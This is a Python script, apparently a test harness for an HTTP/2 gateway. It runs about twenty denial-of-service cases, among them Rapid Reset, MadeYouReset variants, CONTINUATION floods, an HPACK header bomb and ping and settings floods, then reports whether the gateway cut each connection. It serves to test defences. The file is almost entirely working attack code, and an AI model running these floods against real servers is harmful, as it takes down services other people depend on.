# SPDX-License-Identifier: Apache-2.0
"""Attacks over HTTP/2. Prints one JSON object.

    http2_abuse.py CASE          on one connection, until that is cut
    http2_abuse.py CASE SECONDS  for so long, on a new connection after each cut
    http2_abuse.py harmless SECONDS: nothing but ordinary requests, as fast as they are answered, for comparison
"""

import json
import sys
import time

from http2_client import Client, block, frame

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
# Long enough that what does not end an attack by itself is seen not to.
LIMIT = 20


def requests(client, path, count, first=1, end=True):
    """So many requests as one run of bytes, and their streams' numbers."""
    head = block(client.fields(path=path))
    flags = END_HEADERS | (END_STREAM if end else 0)
    streams = list(range(first, first + 2 * count, 2))
    return [frame(HEADERS, flags, stream, head) for stream in streams], streams


def rapid_reset(client):
    """CVE-2023-44487: each request is taken back in the same breath."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 50, first)
        first = streams[-1] + 2
        yield b"".join(h + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for h, s in zip(heads, streams))


def zero_increment(client):
    """A WINDOW_UPDATE of nothing: made-you-reset where a server resets the stream for it; here it ends everything."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 20, first)
        first = streams[-1] + 2
        yield b"".join(h + frame(WINDOW_UPDATE, 0, s, bytes(4)) for h, s in zip(heads, streams))


def made_you_reset(client):
    """CVE-2025-8671: each request's window is made to overflow, so that the server resets its stream."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 20, first)
        first = streams[-1] + 2
        yield b"".join(
            h + frame(WINDOW_UPDATE, 0, s, (2**31 - 1).to_bytes(4, "big")) for h, s in zip(heads, streams))


def long_body(client):
    """CVE-2025-8671 by bodies that are longer than they said."""
    head = block(client.fields("POST", "/hang", [("content-length", "1")]))
    first = 1
    while True:
        streams = range(first, first + 40, 2)
        first += 40
        yield b"".join(frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, b"12") for s in streams)


def bad_field(client):
    """CVE-2025-8671 by header blocks that break HTTP's rules."""
    head = block(client.fields() + [("connection", "close")])
    first = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, head) for s in range(first, first + 40, 2))
        first += 40


def data_behind_end(client):
    """DATA on a stream that its sender has ended: made-you-reset where a server resets the stream for it."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 20, first)
        first = streams[-1] + 2
        yield b"".join(h + frame(DATA, 0, s, b"x") for h, s in zip(heads, streams))


def continuation(client):
    """CVE-2024-27316: a header block that never ends."""
    yield frame(HEADERS, END_STREAM, 1, block(client.fields()))
    # Literal without indexing, so that it means the same anywhere in a block.
    piece = b"\x00\x08x-filler\x40" + b"a" * 64
    while True:
        yield frame(CONTINUATION, 0, 1, piece) * 50


def empty_continuation(client):
    yield frame(HEADERS, END_STREAM, 1, block(client.fields()))
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def header_bomb(client):
    """Few bytes that stand for many: one large entry of the dynamic table, named again and again."""
    import hpack
    encoder = hpack.Encoder()
    base = encoder.encode(client.fields() + [("x-bomb", "b" * 3500)])
    stream = 1
    while True:
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, base + b"\xbe" * 10000)
        base = b""
        stream += 2


def settings(client):
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")) * 50


def ping(client):
    while True:
        yield frame(PING, 0, 0, b"12345678") * 50


def unread_ping(client):
    """The answers are not read, so that they pile up."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def priority(client):
    stream = 1
    while True:
        yield b"".join(frame(PRIORITY, 0, stream + 2 * i, bytes(4) + b"\x10") for i in range(100))
        stream += 200


def empty_data(client):
    yield frame(HEADERS, END_HEADERS, 1, block(client.fields("POST", "/digest")))
    while True:
        yield frame(DATA, 0, 1) * 100


def padded_data(client):
    yield frame(HEADERS, END_HEADERS, 1, block(client.fields("POST", "/digest")))
    while True:
        yield frame(DATA, PADDED, 1, b"\x00") * 100


def unknown(client):
    while True:
        yield frame(0xBB, 0, 0, b"x") * 100


def window_updates(client):
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block(client.fields(path="/hang")))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")) * 100


def too_many_streams(client):
    heads, _ = requests(client, "/hang", 2000)
    for head in heads:
        yield head
    while True:
        yield b""


def zero_window(client):
    """Many large responses are asked for, and none is taken."""
    heads, _ = requests(client, "/flood", 50)
    small, _ = requests(client, "/warm", 50, 101)
    yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + b"".join(heads + small)
    while True:
        yield b""


def harmless(client):
    first = 1
    while True:
        heads, streams = requests(client, "/warm", 50, first)
        first = streams[-1] + 2
        yield b"".join(heads)
        while not client.socket_answers(streams[-1]):
            pass


class Attack:
    """One connection's attack, and how it ended."""

    def __init__(self, make, reads):
        self.client = Client(receive_buffer=None if reads else 4096)
        self.client.raw(frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4, "big")))
        self.client.socket_answers = self.answers
        self.make = make
        self.reads = reads
        self.buffer = bytearray()
        self.last_ended = 0
        self.sent = 0

    def run(self, limit):
        """Returns after how many seconds the gateway cut it; None: it did not."""
        client = self.client
        start = time.monotonic()
        for piece in self.make(client):
            if time.monotonic() - start > limit:
                break
            try:
                if piece:
                    client.socket.settimeout(2)
                    client.raw(piece)
                    self.sent += len(piece)
                else:
                    time.sleep(0.01)
            except TimeoutError:
                continue
            except OSError:
                client.closed = True
                break
            if self.reads:
                self.read()
            if client.closed or client.goaway is not None:
                break
        # What was said last may still lie in our kernel.
        deadline = time.monotonic() + 1
        while client.goaway is None and time.monotonic() < deadline and self.read(0.2):
            pass
        took = time.monotonic() - start
        client.close()
        return took if client.goaway is not None or client.closed else None

    def answers(self, stream):
        self.read(5)
        return self.last_ended >= stream or self.client.closed or self.client.goaway is not None

    def read(self, limit=0.0005):
        """Looks for GOAWAY and END_STREAM in what comes; h2 itself would find much of the rest an error."""
        client = self.client
        client.socket.settimeout(limit)
        try:
            data = client.socket.recv(65536)
        except TimeoutError:
            return True
        except OSError:
            data = b""
        if not data:
            client.closed = True
            return False
        self.buffer.extend(data)
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            if kind == 0x7:
                client.goaway = int.from_bytes(self.buffer[13:17], "big")
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                self.last_ended = max(self.last_ended, int.from_bytes(self.buffer[5:9], "big"))
            del self.buffer[:9 + length]
        return True


CASES = {
    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "long-body": long_body, "bad-field": bad_field,
    "zero-increment": zero_increment, "data-behind-end": data_behind_end,
    "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
    "settings": settings, "ping": ping, "unread-ping": unread_ping, "priority": priority, "unknown": unknown,
    "window-updates": window_updates, "empty-data": empty_data, "padded-data": padded_data,
    "zero-window": zero_window, "too-many-streams": too_many_streams, "harmless": harmless,
}


def main():
    name = sys.argv[1]
    until = time.monotonic() + float(sys.argv[2]) if len(sys.argv) > 2 else None
    result = {"connections": 0, "cut": 0, "codes": {}, "bytes": 0, "slowest": 0.0, "failed": 0}
    while result["connections"] == 0 or until is not None and time.monotonic() < until:
        result["connections"] += 1
        try:
            attack = Attack(CASES[name], reads=not name.startswith("unread"))
            took = attack.run(min(LIMIT, until - time.monotonic()) if until else LIMIT)
        except OSError:
            # The handshake itself was not served.
            result["failed"] += 1
            continue
        result["bytes"] += attack.sent
        code = str(attack.client.goaway)
        result["codes"][code] = result["codes"].get(code, 0) + 1
        if took is not None:
            result["cut"] += 1
            result["slowest"] = max(result["slowest"], took)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
